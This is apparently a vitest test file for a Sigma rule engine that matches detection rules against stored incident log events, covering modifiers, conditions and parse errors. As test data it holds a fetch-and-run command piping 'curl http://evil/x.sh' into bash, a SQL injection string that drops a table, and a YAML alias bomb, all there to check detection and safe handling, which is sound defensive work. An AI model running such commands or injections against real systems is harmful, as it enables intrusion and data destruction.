import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestDatabase, type TestDatabase } from '../../../../test/helpers/db.js';
import { insertEvents, type TestEvent } from '../../../../test/helpers/events.js';
import { translate } from '../../../i18n/index.js';
import { parseSigmaRules, runRules, type RunOptions } from './index.js';

let database: TestDatabase;
beforeAll(async () => {
  database = await createTestDatabase();
});
afterAll(async () => {
  await database?.close();
});

/** A one-rule YAML text with the given detection (indented by the caller's 4 spaces) and log source. */
function rule(detection: string, logsource = 'product: firedrill'): string {
  return `title: test rule
id: 11111111-2222-4333-8444-555555555555
logsource:
    ${logsource}
detection:
${detection}
`;
}

/** Indexes of the events the rule hits. */
async function hits(yaml: string, events: TestEvent[], options?: RunOptions): Promise<number[]> {
  const incident = randomUUID();
  const ids = await insertEvents(database.db, incident, events);
  const found = await runRules(database.db, incident, parseSigmaRules(yaml), options);
  const matched = new Set(found.flatMap((h) => h.eventIds));
  return ids.flatMap((id, i) => (matched.has(id) ? [i] : []));
}

describe('values and modifiers', () => {
  it('matches strings case-insensitively by default and exactly with cased', async () => {
    const events: TestEvent[] = [{ user: 'Root' }, { user: 'root' }, { user: 'rooted' }, { user: null }];
    expect(await hits(rule('    sel:\n        User: root\n    condition: sel'), events)).toEqual([0, 1]);
    expect(await hits(rule('    sel:\n        User|cased: root\n    condition: sel'), events)).toEqual([1]);
  });

  it('handles wildcards * and ? and their escapes', async () => {
    const events: TestEvent[] = [{ message: 'abc' }, { message: 'aXc' }, { message: 'a*c' }, { message: 'a?c' }, { message: 'aXXc' }, { message: 'a\\c' }, { message: 'a\\Xc' }];
    expect(await hits(rule("    sel:\n        message: 'a?c'\n    condition: sel"), events)).toEqual([0, 1, 2, 3, 5]);
    expect(await hits(rule("    sel:\n        message: 'a*c'\n    condition: sel"), events)).toEqual([0, 1, 2, 3, 4, 5, 6]);
    expect(await hits(rule("    sel:\n        message: 'a\\*c'\n    condition: sel"), events)).toEqual([2]);
    expect(await hits(rule("    sel:\n        message: 'a\\?c'\n    condition: sel"), events)).toEqual([3]);
    // a plain backslash not before a wildcard is literal; \\ before a wildcard is a backslash then the wildcard
    expect(await hits(rule("    sel:\n        message: 'a\\c'\n    condition: sel"), events)).toEqual([5]);
    expect(await hits(rule("    sel:\n        message: 'a\\\\?c'\n    condition: sel"), events)).toEqual([6]);
  });

  it('matches quotes, %, _ and backslashes literally (parameterised, escaped LIKE)', async () => {
    const events: TestEvent[] = [
      { message: "it's 100% o_k \\ done" },
      { message: 'its 100 percent ok done' },
      { message: "it's 1000 oXk" },
      { message: "x'; drop table evidence_events; --" },
    ];
    expect(await hits(rule("    sel:\n        message|contains: \"it's 100% o_k \\\\ d\"\n    condition: sel"), events)).toEqual([0]);
    expect(await hits(rule("    sel:\n        message|contains: '%'\n    condition: sel"), events)).toEqual([0]);
    expect(await hits(rule("    sel:\n        message|contains: '_'\n    condition: sel"), events)).toEqual([0, 3]);
    expect(await hits(rule("    sel:\n        message|startswith: \"x'; drop table evidence_events; --\"\n    condition: sel"), events)).toEqual([3]);
    // the table is still there
    expect(await hits(rule("    sel:\n        message|endswith: 'done'\n    condition: sel"), events)).toEqual([0, 1]);
  });

  it('ORs value lists, ANDs them with all, ORs lists of maps and ANDs maps', async () => {
    const events: TestEvent[] = [
      { user: 'alice', srcIp: '10.0.0.1', message: 'alpha beta' },
      { user: 'bob', srcIp: '10.0.0.2', message: 'alpha' },
      { user: 'carol', srcIp: '10.0.0.1', message: 'beta gamma' },
    ];
    expect(await hits(rule('    sel:\n        User:\n            - alice\n            - bob\n    condition: sel'), events)).toEqual([0, 1]);
    expect(await hits(rule('    sel:\n        message|contains|all:\n            - alpha\n            - beta\n    condition: sel'), events)).toEqual([0]);
    expect(await hits(rule("    sel:\n        - User: bob\n        - SourceIp: '10.0.0.1'\n    condition: sel"), events)).toEqual([0, 1, 2]);
    expect(await hits(rule("    sel:\n        User: carol\n        SourceIp: '10.0.0.1'\n    condition: sel"), events)).toEqual([2]);
  });

  it('searches keywords in the message, OR-ed, or AND-ed with |all', async () => {
    const events: TestEvent[] = [{ message: 'Failed password for root' }, { message: 'session opened for user root' }, { message: 'FAILED login, session' }];
    expect(await hits(rule("    keywords:\n        - 'failed'\n        - 'opened'\n    condition: keywords"), events)).toEqual([0, 1, 2]);
    expect(await hits(rule("    keywords:\n        '|all':\n            - 'failed'\n            - 'session'\n    condition: keywords"), events)).toEqual([2]);
  });

  it('treats null as a missing field and exists as presence', async () => {
    const events: TestEvent[] = [{ user: 'a', fields: { tty: 'pts/0' } }, { user: null, fields: { tty: null } }, { user: 'b', fields: {} }];
    expect(await hits(rule('    sel:\n        User: null\n    condition: sel'), events)).toEqual([1]);
    expect(await hits(rule('    sel:\n        fields.tty|exists: true\n    condition: sel'), events)).toEqual([0, 1]);
    expect(await hits(rule('    sel:\n        fields.tty|exists: false\n    condition: sel'), events)).toEqual([2]);
    expect(await hits(rule("    sel:\n        fields.tty: ''\n    condition: sel"), events)).toEqual([1, 2]);
  });

  it('compares numbers with lt, lte, gt, gte and neq, safely over non-numeric values', async () => {
    const events: TestEvent[] = [{ fields: { status: 200 } }, { fields: { status: 404 } }, { fields: { status: '500' } }, { fields: { status: 'oops' } }, { fields: {} }];
    expect(await hits(rule('    sel:\n        fields.status|gte: 404\n    condition: sel'), events)).toEqual([1, 2]);
    expect(await hits(rule('    sel:\n        fields.status|gt: 404\n    condition: sel'), events)).toEqual([2]);
    expect(await hits(rule('    sel:\n        fields.status|lt: 404\n    condition: sel'), events)).toEqual([0]);
    expect(await hits(rule('    sel:\n        fields.status|lte: 404\n    condition: sel'), events)).toEqual([0, 1]);
    expect(await hits(rule('    sel:\n        fields.status: 404\n    condition: sel'), events)).toEqual([1]);
    expect(await hits(rule('    sel:\n        fields.status|neq: 404\n    condition: sel'), events)).toEqual([0, 2, 3, 4]);
  });

  it('matches regular expressions with the i, m and s sub-modifiers', async () => {
    const events: TestEvent[] = [{ message: 'User admin logged in' }, { message: 'user ADMIN logged in' }, { message: 'line one\nadmin two' }, { message: 'xadminx' }];
    expect(await hits(rule("    sel:\n        message|re: '\\badmin\\b'\n    condition: sel"), events)).toEqual([0, 2]);
    expect(await hits(rule("    sel:\n        message|re|i: '\\badmin\\b'\n    condition: sel"), events)).toEqual([0, 1, 2]);
    expect(await hits(rule("    sel:\n        message|re: '^admin'\n    condition: sel"), events)).toEqual([]);
    expect(await hits(rule("    sel:\n        message|re|m: '^admin'\n    condition: sel"), events)).toEqual([2]);
    expect(await hits(rule("    sel:\n        message|re: 'one.admin'\n    condition: sel"), events)).toEqual([]);
    expect(await hits(rule("    sel:\n        message|re|s: 'one.admin'\n    condition: sel"), events)).toEqual([2]);
    expect(await hits(rule("    sel:\n        message|re: '(?i)^USER'\n    condition: sel"), events)).toEqual([0, 1]);
  });

  it('matches addresses with cidr (IPv4 and IPv6, column and fields key)', async () => {
    const events: TestEvent[] = [{ srcIp: '10.1.2.3' }, { srcIp: '192.168.1.5' }, { srcIp: '2001:db8::1' }, { srcIp: null, fields: { client: '10.9.9.9' } }, { fields: { client: 'not an ip' } }];
    expect(await hits(rule("    sel:\n        SourceIp|cidr: '10.0.0.0/8'\n    condition: sel"), events)).toEqual([0]);
    expect(await hits(rule("    sel:\n        SourceIp|cidr:\n            - '192.168.0.0/16'\n            - '2001:db8::/32'\n    condition: sel"), events)).toEqual([1, 2]);
    expect(await hits(rule("    sel:\n        fields.client|cidr: '10.0.0.0/8'\n    condition: sel"), events)).toEqual([3]);
  });

  it('encodes with base64 and base64offset (also after wide)', async () => {
    const plain = Buffer.from('curl http://evil/x.sh | bash').toString('base64');
    const shifted = Buffer.from('echo curl http://evil/x.sh | bash').toString('base64');
    const wide = Buffer.from('xx curl http://evil', 'utf16le').toString('base64');
    const events: TestEvent[] = [{ message: `bash -c "echo ${plain} | base64 -d"` }, { message: `echo ${shifted}` }, { message: 'nothing here' }, { message: wide }];
    expect(await hits(rule("    sel:\n        message|base64|contains: 'curl http://evil/x'\n    condition: sel"), events)).toEqual([0]);
    expect(await hits(rule("    sel:\n        message|base64offset|contains: 'curl http://evil'\n    condition: sel"), events)).toEqual([0, 1]);
    expect(await hits(rule("    sel:\n        message|wide|base64offset|contains: 'curl http://evil'\n    condition: sel"), events)).toEqual([3]);
  });

  it('expands placeholders from the options (defaults for the bundled ones), with \\% literal', async () => {
    const events: TestEvent[] = [{ user: 'root' }, { user: 'ubuntu' }, { user: 'alice' }, { user: 'ops-bob' }, { user: '%admin_accounts%' }];
    const r = rule("    sel:\n        User|expand: '%admin_accounts%'\n    condition: sel");
    expect(await hits(r, events)).toEqual([0, 1]);
    expect(await hits(r, events, { placeholders: { admin_accounts: ['alice'] } })).toEqual([2]);
    expect(await hits(rule("    sel:\n        User|expand: 'ops-%team%'\n    condition: sel"), events, { placeholders: { team: ['bob', 'carol'] } })).toEqual([3]);
    expect(await hits(rule("    sel:\n        User: '%admin_accounts%'\n    condition: sel"), events)).toEqual([4]);
    // an empty list matches nothing, so its negation matches everything
    expect(await hits(rule("    sel:\n        User|expand: '%finance_accounts%'\n    condition: not sel"), events)).toEqual([0, 1, 2, 3, 4]);
    await expect(hits(rule("    sel:\n        User|expand: '%nobody%'\n    condition: sel"), events)).rejects.toMatchObject({ code: 'rule_invalid' });
  });

  it('expands windash and compares fields with fieldref', async () => {
    const events: TestEvent[] = [{ message: 'net user /add' }, { message: 'net user -add' }, { message: 'net user \u2013add' }, { message: 'net user add' }];
    expect(await hits(rule("    sel:\n        message|windash|contains: ' -add'\n    condition: sel"), events)).toEqual([0, 1, 2]);
    const refs: TestEvent[] = [{ user: 'root', fields: { target_user: 'ROOT' } }, { user: 'alice', fields: { target_user: 'root' } }];
    expect(await hits(rule('    sel:\n        User|fieldref: TargetUserName\n    condition: sel'), refs)).toEqual([0]);
  });

  it('reads local hour and weekday in the run time zone', async () => {
    // 2026-03-06 is a Friday. 11:59Z is 19:59 in Shanghai, 12:01Z is 20:01.
    const events: TestEvent[] = [{ time: '2026-03-06T11:59:00Z' }, { time: '2026-03-06T12:01:00Z' }, { time: '2026-03-07T02:00:00Z' }];
    expect(await hits(rule('    sel:\n        local_hour|gte: 20\n    condition: sel'), events)).toEqual([1]);
    expect(await hits(rule('    sel:\n        local_weekday|gte: 6\n    condition: sel'), events)).toEqual([2]);
    expect(await hits(rule('    sel:\n        local_hour|gte: 20\n    condition: sel'), events, { timeZone: 'UTC' })).toEqual([]);
    expect(await hits(rule('    sel:\n        time|hour: 12\n    condition: sel'), events, { timeZone: 'UTC' })).toEqual([1]);
  });
});

describe('conditions', () => {
  const events: TestEvent[] = [
    { user: 'a', message: 'one' },
    { user: 'b', message: 'two' },
    { user: 'a', message: 'two' },
    { user: 'c', message: 'three' },
  ];
  const det = (cond: string) => rule(`    selection_a:\n        User: a\n    selection_two:\n        message: two\n    filter_c:\n        User: c\n    _hidden:\n        User: b\n    condition: ${cond}`);

  it('combines with and, or, not and parentheses, with the usual precedence', async () => {
    expect(await hits(det('selection_a and selection_two'), events)).toEqual([2]);
    expect(await hits(det('selection_a or selection_two'), events)).toEqual([0, 1, 2]);
    expect(await hits(det('not selection_a'), events)).toEqual([1, 3]);
    expect(await hits(det('selection_a or selection_two and not selection_a'), events)).toEqual([0, 1, 2]);
    expect(await hits(det('(selection_a or selection_two) and not selection_a'), events)).toEqual([1]);
    expect(await hits(det('not (selection_a or filter_c)'), events)).toEqual([1]);
  });

  it('supports 1 of / all of a pattern and of them (leaving out _ identifiers)', async () => {
    expect(await hits(det('1 of selection_*'), events)).toEqual([0, 1, 2]);
    expect(await hits(det('all of selection_*'), events)).toEqual([2]);
    expect(await hits(det('1 of them'), events)).toEqual([0, 1, 2, 3]);
    expect(await hits(det('all of them'), events)).toEqual([]);
    expect(await hits(det('1 of selection_* and not 1 of filter_*'), events)).toEqual([0, 1, 2]);
    expect(await hits(det('_hidden'), events)).toEqual([1]);
  });

  it('ORs a list of conditions', async () => {
    const r = rule('    a:\n        User: a\n    c:\n        User: c\n    condition:\n        - a\n        - c');
    expect(await hits(r, events)).toEqual([0, 2, 3]);
  });
});

describe('errors', () => {
  const expectError = (yaml: string, code: string, match: Record<string, unknown>) => {
    let error: unknown;
    try {
      parseSigmaRules(yaml);
    } catch (err) {
      error = err;
    }
    expect(error).toMatchObject({ code, params: expect.objectContaining(match) });
    return error as { code: string; params: Record<string, unknown> };
  };

  it('names the line of a YAML syntax error', () => {
    expectError('title: x\nlogsource:\n    product: linux\ndetection:\n    sel: [a, b\n    condition: sel\n', 'rule_invalid', { path: '(YAML)' });
  });

  it('refuses an alias without its anchor, and an alias bomb, as invalid YAML', () => {
    expectError('*!', 'rule_invalid', { path: '(YAML)' });
    const bomb = ['a: &a [x, x, x, x, x, x, x, x, x, x]', ...Array.from({ length: 8 }, (_, i) => `${String.fromCharCode(98 + i)}: &${String.fromCharCode(98 + i)} [${Array(10).fill(`*${String.fromCharCode(97 + i)}`).join(', ')}]`), 'title: x'].join('\n');
    expectError(bomb, 'rule_invalid', { path: '(YAML)' });
  });

  it('names the field of a structural error, with its line', () => {
    expectError('title: x\nlogsource:\n    product: linux\ndetection:\n    sel:\n        User: a\n', 'rule_invalid', { path: 'detection.condition' });
    expectError('logsource:\n    product: linux\ndetection:\n    sel:\n        User: a\n    condition: sel\n', 'rule_invalid', { path: 'title' });
    expectError('title: x\nlevel: severe\nlogsource:\n    product: linux\ndetection:\n    sel:\n        User: a\n    condition: sel\n', 'rule_invalid', { path: 'level', line: 2 });
    const e = expectError(rule('    sel:\n        User|containz: a\n    condition: sel'), 'rule_invalid', { path: 'detection.sel.User|containz', line: 7 });
    expect(translate('zh-CN', e.code, e.params)).toContain('第 7 行');
    expect(translate('en', e.code, e.params)).toContain('unknown modifier');
    expectError(rule('    sel:\n        User: a\n    condition: sel and missing'), 'rule_invalid', { path: 'detection.condition' });
    expectError(rule('    sel:\n        User: a\n    condition: (sel'), 'rule_invalid', { path: 'detection.condition' });
    expectError(rule('    sel:\n        User|all: a\n    condition: sel'), 'rule_invalid', {});
  });

  it('refuses an unknown field, naming it and its log source, instead of never matching', () => {
    const e = expectError(rule('    sel:\n        Imagee: a\n    condition: sel', 'category: webserver'), 'rule_field_unknown', { field: 'Imagee', line: 7 });
    expect(translate('en', e.code, e.params)).toContain('Imagee');
    expect(translate('zh-CN', e.code, e.params)).toContain('Imagee');
    // webserver names only where they make sense
    expectError(rule('    sel:\n        cs-method: GET\n    condition: sel', 'product: linux\n    service: sshd'), 'rule_field_unknown', { field: 'cs-method' });
  });

  it('refuses log sources no evidence comes from, and what cannot be run', () => {
    expectError(rule('    sel:\n        User: a\n    condition: sel', 'product: windows\n    service: security'), 'rule_unsupported', { path: 'logsource' });
    expectError(rule("    sel:\n        message|re: '(a)\\1'\n    condition: sel"), 'rule_unsupported', {});
    expectError(rule("    sel:\n        message|re: '(?=a)b'\n    condition: sel"), 'rule_unsupported', {});
    expectError(rule("    sel:\n        message|re: '\\p{Han}'\n    condition: sel"), 'rule_unsupported', {});
    expectError(rule('    sel:\n        message|wide|contains: a\n    condition: sel'), 'rule_unsupported', {});
    expectError(rule('    sel:\n        User: a\n    condition: sel | count() > 5'), 'rule_unsupported', {});
  });
});
